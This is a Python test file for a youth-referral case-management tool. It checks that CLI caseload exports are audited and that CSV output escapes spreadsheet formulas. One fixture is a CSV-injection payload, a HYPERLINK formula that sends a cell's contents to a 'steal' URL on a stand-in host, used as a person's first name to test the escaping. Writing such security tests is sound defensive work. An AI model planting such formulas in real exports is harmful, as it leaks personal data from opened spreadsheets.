"""``veru-desk cases --format csv|json`` in a separate process: a manager's whole caseload
leaving the app is an export, audited with its row count, and its CSV never carries a live
spreadsheet formula (on a file and on a server)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
from pathlib import Path

from sqlalchemy import select

from tests.cli.test_cli_subprocess import PASSWORD, child_env
from tests.dates import today
from veru_desk.config import resolve_database
from veru_desk.db.engine import Database
from veru_desk.db.models import AuditEvent
from veru_desk.domain.enums import AgencyType, AuditAction, ConsentStatus, ReferralReason, Role
from veru_desk.services import Services
from veru_desk.services.people import PersonDetails
from veru_desk.services.referrals import ReferralDetails
from veru_desk.services.users import actor_for, add_user

FORMULA = '=HYPERLINK("https://example.org/steal?d="&A1,"Zoë")'


def _unit(target: str) -> None:
    """Priya (manager) with two referrals: one for a young person whose first name was typed
    (or imported) as a spreadsheet formula."""
    db = Database.open(resolve_database(target))
    try:
        with db.write() as session:
            manager = actor_for(
                add_user(session, "priya", "Priya Raghunathan", {Role.MANAGER}, PASSWORD)
            )
        services = Services(db, manager)
        referral = ReferralDetails(
            received_on=today() - dt.timedelta(days=3),
            referring_agency="+Luton Youth Justice Service",
            referring_agency_type=AgencyType.YOUTH_JUSTICE,
            reasons=frozenset({ReferralReason.COUNTY_LINES}),
            consent_young_person=ConsentStatus.GIVEN,
            consent_parent=ConsentStatus.GIVEN,
        )
        for first, last in ((FORMULA, "Ó Súilleabháin"), ("Dariusz", "@Wójcik")):
            services.referrals.create(
                referral,
                person=PersonDetails(
                    first_name=first, last_name=last, date_of_birth=dt.date(2011, 4, 3)
                ),
            )
    finally:
        db.dispose()


def _cases(tmp_path: Path, target: str, fmt: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "veru_desk", "cases", "--user", "priya", "--format", fmt],
        capture_output=True,
        text=True,
        env=child_env(tmp_path, VERU_DESK_DATABASE=target, VERU_DESK_PASSWORD=PASSWORD),
        timeout=120,
        check=False,
    )


def _trail(target: str) -> list[tuple[AuditAction, str | None]]:
    db = Database.open(resolve_database(target))
    try:
        with db.read() as session:
            rows = session.execute(
                select(AuditEvent.action, AuditEvent.summary)
                .where(AuditEvent.username == "priya")
                .where(AuditEvent.action.in_([AuditAction.LOGIN, AuditAction.EXPORT]))
                .order_by(AuditEvent.id)
            ).all()
    finally:
        db.dispose()
    return [(action, summary) for action, summary in rows]


def test_cases_csv_is_audited_as_an_export_and_its_formulas_never_run(
    database_target: str, tmp_path: Path
) -> None:
    _unit(database_target)
    result = _cases(tmp_path, database_target, "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["first_name"] for r in rows} == {"'" + FORMULA, "Dariusz"}
    assert {r["last_name"] for r in rows} == {"Ó Súilleabháin", "'@Wójcik"}
    assert not any(
        value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values()
    )
    assert rows[0]["date_of_birth"] == "2011-04-03"  # a date stays a plain ISO date
    assert _trail(database_target) == [
        (AuditAction.LOGIN, "Signed in (command line: cases)"),
        (AuditAction.EXPORT, "Caseload exported (CSV, command line): 2 cases"),
    ]


def test_cases_json_is_audited_as_an_export_with_its_row_count(
    database_target: str, tmp_path: Path
) -> None:
    _unit(database_target)
    result = _cases(tmp_path, database_target, "json")
    assert result.returncode == 0, result.stderr
    assert {d["first_name"] for d in json.loads(result.stdout)} == {FORMULA, "Dariusz"}
    assert _trail(database_target)[-1] == (
        AuditAction.EXPORT,
        "Caseload exported (JSON, command line): 2 cases",
    )
    # The table on a terminal is a look, not a file: no export is recorded for it.
    result = _cases(tmp_path, database_target, "table")
    assert result.returncode == 0, result.stderr
    assert [a for a, _s in _trail(database_target)].count(AuditAction.EXPORT) == 1
